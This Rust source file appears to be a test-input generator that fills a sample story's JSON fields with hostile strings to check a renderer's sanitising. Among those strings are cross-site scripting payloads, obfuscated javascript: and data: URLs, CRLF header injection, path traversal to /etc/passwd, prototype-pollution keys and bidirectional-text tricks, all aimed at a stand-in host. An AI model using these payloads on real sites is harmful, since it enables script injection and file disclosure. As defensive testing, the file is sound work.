//! Strings that somebody hopes are taken for something else.

use serde_json::{Value, json};

use crate::fill::{self, Role};
use crate::{FOREIGN, Hostile, RAN, sample};

/// A payload's name, and what it is in JSON.
type Payload = (String, String);

/// Each payload in all strings of a sort at once.
pub fn everywhere() -> Vec<Hostile> {
    let story = sample::story();
    let mut made = Vec::new();
    let mut put = |(name, literal): &Payload, place: &str, wanted: &dyn Fn(Role) -> bool| {
        made.push(Hostile {
            name: format!("{name} in {place}"),
            json: fill::strings(&story, literal, wanted),
        });
    };
    for payload in markup().iter().chain(&characters()) {
        put(payload, "every text", &|role| role == Role::Text);
        put(payload, "every address", &|role| role == Role::Address);
        put(payload, "every name", &|role| role == Role::Name);
        put(payload, "every string", &|_| true);
    }
    for payload in &addresses() {
        put(payload, "every address", &|role| role == Role::Address);
        put(payload, "every string", &|_| true);
    }
    for payload in &names() {
        put(payload, "every name", &|role| role == Role::Name);
        put(payload, "every text", &|role| role == Role::Text);
    }
    made
}

/// A few payloads and every wrong type, in each field in turn.
pub fn in_turn() -> Vec<Hostile> {
    let story = sample::story();
    let everything = format!(
        "\u{0}\u{1b}\u{202e}\"'>--></title></script><script>{RAN}</script><img src={FOREIGN}/a onerror={RAN}>\u{2066}&lt;"
    );
    let values = [
        ("everything", text(&everything)),
        ("a script's address", text(&format!("JaVa\tScript:{RAN}"))),
        ("a foreign address", text(&format!("{FOREIGN}/a.jpg"))),
        ("no text", text("")),
        ("a proto", text("__proto__")),
        ("null", "null".to_owned()),
        ("true", "true".to_owned()),
        ("a number", "-1.5e300".to_owned()),
        ("a list", "[[], {}, 0, \"\", null]".to_owned()),
        (
            "an object",
            json!({ "__proto__": { "src": FOREIGN }, "type": {} }).to_string(),
        ),
    ];
    let mut made = Vec::new();
    for field in fill::fields(&story) {
        for (name, literal) in &values {
            made.push(Hostile {
                name: format!("{name} at {field}"),
                json: fill::place(&story, &field, literal),
            });
        }
    }
    made
}

/// Scripts and event handlers.
fn markup() -> Vec<Payload> {
    named(&[
        ("script-element", format!("<script>{RAN}</script>")),
        (
            "script-from-elsewhere",
            format!("<script src=\"{FOREIGN}/a.js\"></script>"),
        ),
        (
            "script-after-the-title",
            format!("</title></style></script></textarea><script>{RAN}</script>"),
        ),
        (
            "script-in-a-comment",
            format!("--><!--><script>{RAN}</script><!--"),
        ),
        (
            "script-in-cdata",
            format!("]]><script>{RAN}</script><![CDATA["),
        ),
        (
            "event-handler",
            format!("<img src=\"{FOREIGN}/a.gif\" onerror=\"{RAN}\">"),
        ),
        (
            "event-handler-in-svg",
            format!("<svg onload={RAN}><use href=\"{FOREIGN}/a.svg#a\"/></svg>"),
        ),
        (
            "event-handler-behind-a-quote",
            format!("\" onmouseover=\"{RAN}\" autofocus onfocus=\"{RAN}\" x=\""),
        ),
        (
            "event-handler-behind-an-apostrophe",
            format!("' onfocus='{RAN}' autofocus='"),
        ),
        (
            "event-handler-without-quotes",
            format!("x onfocus={RAN} autofocus tabindex=0"),
        ),
        (
            "base-and-refresh",
            format!(
                "<base href=\"{FOREIGN}/\"><meta http-equiv=\"refresh\" content=\"0;url={FOREIGN}/\">"
            ),
        ),
        (
            "frame",
            format!(
                "<iframe srcdoc=\"<script>parent.{RAN}</script>\" src=\"{FOREIGN}/\"></iframe>"
            ),
        ),
        (
            "style",
            format!(
                "</style><style>@import '{FOREIGN}/a.css';*{{background:url({FOREIGN}/a.gif)}}</style>"
            ),
        ),
        (
            "form",
            format!("<form action=\"{FOREIGN}/\"><button autofocus>Log in</button></form>"),
        ),
        (
            "template",
            format!("{{{{constructor.constructor('{RAN}')()}}}}${{{RAN}}}`{{n}}{{total}}"),
        ),
        (
            "entities",
            format!("&lt;script&gt;{RAN}&lt;/script&gt;&quot;&#39;&#x3c;&amp;lt;"),
        ),
        (
            "markdown",
            format!("[a](javascript:{RAN}) ![b]({FOREIGN}/a.jpg) <{FOREIGN}>"),
        ),
        (
            "json-ld",
            format!(
                "</script><script type=\"application/ld+json\">{{\"@context\":\"{FOREIGN}\"}}</script>"
            ),
        ),
        (
            "header",
            format!("a\r\nSet-Cookie: a=b\r\nLocation: {FOREIGN}/\r\n\r\n<script>{RAN}</script>"),
        ),
    ])
}

/// Addresses that no story may lead to, or that are not what they look like.
fn addresses() -> Vec<Payload> {
    let script = format!("javascript:{RAN}");
    named(&[
        ("javascript", script.clone()),
        ("javascript-in-capitals", format!("JaVaScRiPt:{RAN}")),
        ("javascript-with-a-tab", format!("java\tscript:{RAN}")),
        (
            "javascript-with-a-new-line",
            format!("java\nscript\r:{RAN}"),
        ),
        ("javascript-after-a-space", format!(" \u{a0}{script}")),
        ("javascript-after-a-control", format!("\u{1}{script}")),
        (
            "javascript-as-an-entity",
            format!("&#106;avascript&colon;{RAN}"),
        ),
        ("javascript-as-percents", format!("%6Aavascript:{RAN}")),
        (
            "javascript-after-an-address",
            format!("https://example.org/\n{script}"),
        ),
        ("javascript-as-a-path", format!("javascript://%0a{RAN}")),
        ("vbscript", "vbscript:MsgBox(1)".to_owned()),
        ("data", format!("data:text/html,<script>{RAN}</script>")),
        (
            "data-of-a-picture",
            format!("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RAN}'/>"),
        ),
        (
            "blob",
            format!("blob:{FOREIGN}/9115d58c-bcda-ff47-86e5-083e9a215304"),
        ),
        ("filesystem", format!("filesystem:{FOREIGN}/temporary/a")),
        ("file", "file:///etc/passwd".to_owned()),
        ("view-source", format!("view-source:{FOREIGN}/")),
        ("about", "about:blank#a".to_owned()),
        ("mailto", "mailto:a@hostile.invalid".to_owned()),
        ("foreign", format!("{FOREIGN}/a.jpg")),
        (
            "foreign-without-a-scheme",
            "//hostile.invalid/a.jpg".to_owned(),
        ),
        (
            "foreign-by-backslashes",
            "\\\\hostile.invalid\\a.jpg".to_owned(),
        ),
        (
            "foreign-by-a-slash-and-a-backslash",
            "/\\hostile.invalid/a.jpg".to_owned(),
        ),
        (
            "foreign-with-a-name-before-it",
            "https://example.org@hostile.invalid/a.jpg".to_owned(),
        ),
        (
            "foreign-with-a-name-and-a-password",
            "https://a:b@hostile.invalid/a.jpg".to_owned(),
        ),
        (
            "foreign-without-slashes",
            "https:hostile.invalid/a.jpg".to_owned(),
        ),
        ("foreign-by-a-socket", "wss://hostile.invalid/a".to_owned()),
        ("upwards", "../../../../../../../../etc/passwd".to_owned()),
        (
            "upwards-within",
            "media/../../../../../../etc/passwd".to_owned(),
        ),
        (
            "upwards-by-percents",
            "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd".to_owned(),
        ),
        (
            "upwards-by-backslashes",
            "..\\..\\..\\..\\etc\\passwd".to_owned(),
        ),
        ("absolute", "/etc/passwd".to_owned()),
        ("absolute-on-windows", "C:\\Windows\\win.ini".to_owned()),
        ("a-list-of-them", format!("a.jpg 1x, {FOREIGN}/a.jpg 2x")),
        ("a-port", format!("{FOREIGN}:99999999/a.jpg")),
        ("no-host-at-all", "http:///".to_owned()),
        ("brackets", "http://[::1".to_owned()),
    ])
}

/// Characters that change what stands around them, or end it.
fn characters() -> Vec<Payload> {
    let mut characters = named(&[
        ("bidi-override", "gpj.\u{202e}exe".to_owned()),
        ("bidi-override-left-to-right", "\u{202d}סוף".to_owned()),
        (
            "bidi-embedding",
            "\u{202b}left open \u{202a}twice".to_owned(),
        ),
        (
            "bidi-isolates-left-open",
            "\u{2066}\u{2067}\u{2068}left open".to_owned(),
        ),
        (
            "bidi-closed-and-never-opened",
            "closed\u{202c}\u{2069}\u{2069}".to_owned(),
        ),
        ("bidi-deep", "\u{2067}\u{202e}".repeat(70)),
        ("nul", "before\u{0}after".to_owned()),
        (
            "controls",
            (1..32).chain(127..160).filter_map(char::from_u32).collect(),
        ),
        ("separators", "line\u{2028}paragraph\u{2029}end".to_owned()),
        (
            "not-characters",
            "\u{feff}\u{fffe}\u{ffff}\u{10ffff}\u{e0001}\u{e0041}".to_owned(),
        ),
        (
            "no-width",
            "\u{200b}\u{200c}\u{200d}\u{2060}\u{ad}".to_owned(),
        ),
        (
            "marks-upon-marks",
            format!("a{}", "\u{334}\u{489}".repeat(100)),
        ),
        ("spaces-alone", " \t\n\u{a0}\u{3000}".to_owned()),
    ]);
    // What no string of Rust's can hold.
    characters.extend([
        (
            "half-a-surrogate-pair".to_owned(),
            r#""before\ud800after""#.to_owned(),
        ),
        (
            "surrogates-in-the-wrong-order".to_owned(),
            r#""\udc00\ud800<script>""#.to_owned(),
        ),
    ]);
    characters
}

/// Names that mean something to JavaScript or to a page.
fn names() -> Vec<Payload> {
    let names = [
        "__proto__",
        "constructor",
        "toString",
        "hasOwnProperty",
        "prototype",
        "valueOf",
        "then",
        "NaN",
        "undefined",
        "null",
        "location",
        "document",
        "cookie",
        "reportage-story",
        "top",
        "#",
        ".",
        "..",
        "constructor.prototype",
        "__proto__[hostile]",
    ];
    names.map(|name| (name.to_owned(), text(name))).into()
}

fn named(payloads: &[(&str, String)]) -> Vec<Payload> {
    let payloads = payloads.iter();
    payloads
        .map(|(name, payload)| ((*name).to_owned(), text(payload)))
        .collect()
}

fn text(text: &str) -> String {
    Value::from(text).to_string()
}
